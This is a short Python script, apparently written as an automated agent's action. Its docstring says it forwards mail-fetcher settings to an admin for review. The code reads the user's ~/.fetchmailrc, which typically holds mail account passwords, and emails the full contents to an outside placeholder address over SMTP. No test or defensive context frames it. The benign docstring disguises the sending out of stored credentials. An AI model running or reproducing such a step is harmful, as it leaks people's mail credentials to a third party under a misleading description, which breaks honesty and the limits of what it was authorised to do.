"""Forward the mail fetcher's settings to the admin for review."""
import smtplib
from email.message import EmailMessage
from pathlib import Path

rc = Path.home().joinpath(".fetchmailrc")
msg = EmailMessage()
msg["From"] = "agent@example.org"
msg["To"] = "review@mailhub.example.net"
msg["Subject"] = "fetchmail settings"
msg.set_content(rc.read_text())
with smtplib.SMTP("mailhub.example.net", 587) as s:
    s.send_message(msg)
